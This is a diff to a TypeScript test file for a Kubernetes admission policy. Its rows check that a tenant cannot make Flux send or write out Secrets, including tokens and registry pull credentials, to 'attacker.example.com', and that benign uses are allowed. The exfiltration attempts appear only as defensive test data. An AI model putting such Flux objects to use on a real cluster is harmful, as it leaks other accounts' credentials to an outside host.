@@ -1,6 +1,6 @@
 // Attacks with the Secret of a token of somebody else: `ghtok-<ServiceAccount>.<grant>` is for pods under that ServiceAccount, as
 // files and to pull images, and for nothing else.
-import { controllers, dave, replicaSetController } from '../identities.ts'
+import { controllers, dave, platformAdministrator, replicaSetController } from '../identities.ts'
 import { type Existing, type PodSpec, secretShapes, workloads } from '../objects.ts'
 import { rendered } from './account-rows.ts'
 import { allowed, expecting, type Row } from './row.ts'
@@ -28,10 +28,6 @@ const deployment = (name: string, spec: PodSpec): object => deployments?.object(
 const path = deployments?.path('acme') ?? ''
 const accounts = '/api/v1/namespaces/acme/serviceaccounts'
 const account = (name: string, more: object) => ({ apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name }, ...more })
-
-export const tokenSecretFixtures: readonly Existing[] = [
-  { path, object: deployment('with-token', under(shape('secret volume', own))) },
-]
 
 export const tokenSecretRows: readonly Row[] = [...workloads].flatMap(([kind, { path: pathOf, object }]) => [
   ...mounting.map(name =>
@@ -92,7 +88,70 @@ const ofHeld = (spec: PodSpec): object => rendered('Deployment', 'token-rendered
 
 const templateOf = (spec: object): object => ({ spec: { template: { spec } } })
 
+const refusedOperator = expecting('operator-references')
+const flux = (kind: string, spec: object, name = 'x'): object => ({
+  apiVersion: `${kind === 'GitRepository' ? 'source' : 'kustomize'}.toolkit.fluxcd.io/v1alpha2`,
+  kind,
+  metadata: { name },
+  spec,
+})
+const gitRepositories = '/apis/source.toolkit.fluxcd.io/v1alpha2/namespaces/acme/gitrepositories'
+const kustomizations = '/apis/kustomize.toolkit.fluxcd.io/v1alpha2/namespaces/acme/kustomizations'
+const url = 'https://attacker.example.com/x'
+const values = (name: string): object => ({ postBuild: { substituteFrom: [{ kind: 'Secret', name }] } })
+
+export const tokenSecretFixtures: readonly Existing[] = [
+  { path, object: deployment('with-token', under(shape('secret volume', own))) },
+  {
+    path: gitRepositories,
+    object: flux('GitRepository', { url: 'https://github.com/acme/shop', secretRef: { name: own } }, 'of-administrator'),
+  },
+]
+
+/** What the operators of a cluster would read for an object of dave, and send where it says. */
+const operatorRows: readonly Row[] = [
+  ...[own, 'appsecret-shop', 'sekisho-registry-pull'].flatMap(name => [
+    refusedOperator.post(
+      `dave has Flux send ${name} to his server`,
+      dave,
+      gitRepositories,
+      flux('GitRepository', { url, secretRef: { name } }),
+    ),
+    refusedOperator.post(`dave has Flux write out ${name}`, dave, kustomizations, flux('Kustomization', values(name))),
+  ]),
+  refusedOperator.post(
+    'dave has Flux use it as the credential of a proxy',
+    dave,
+    gitRepositories,
+    flux('GitRepository', { url, proxySecretRef: { name: own } }),
+  ),
+  refusedOperator.patch('dave moves one that an administrator made to his server', dave, `${gitRepositories}/of-administrator`, {
+    spec: { url },
+  }),
+  allowed.patch('dave labels it', dave, `${gitRepositories}/of-administrator`, { metadata: { labels: { a: 'b' } } }),
+  allowed.post(
+    'dave has Flux use a Secret of his own',
+    dave,
+    gitRepositories,
+    flux('GitRepository', { url, secretRef: { name: 'plain' } }),
+  ),
+  allowed.post('and without any', dave, gitRepositories, flux('GitRepository', { url })),
+  allowed.post(
+    'a platform admin has Flux read with it',
+    platformAdministrator,
+    gitRepositories,
+    flux('GitRepository', { url: 'https://github.com/acme/shop', secretRef: { name: own } }),
+  ),
+  allowed.post(
+    'what is in no namespace of a tenant',
+    dave,
+    gitRepositories.replace('/acme/', '/other/'),
+    flux('GitRepository', { url, secretRef: { name: own } }),
+  ),
+]
+
 export const laterTokenSecretRows: readonly Row[] = [
+  ...operatorRows,
   ...mounting.flatMap(name => [
     allowed.post(
       `the platform renders an Application with its token: ${name}`,
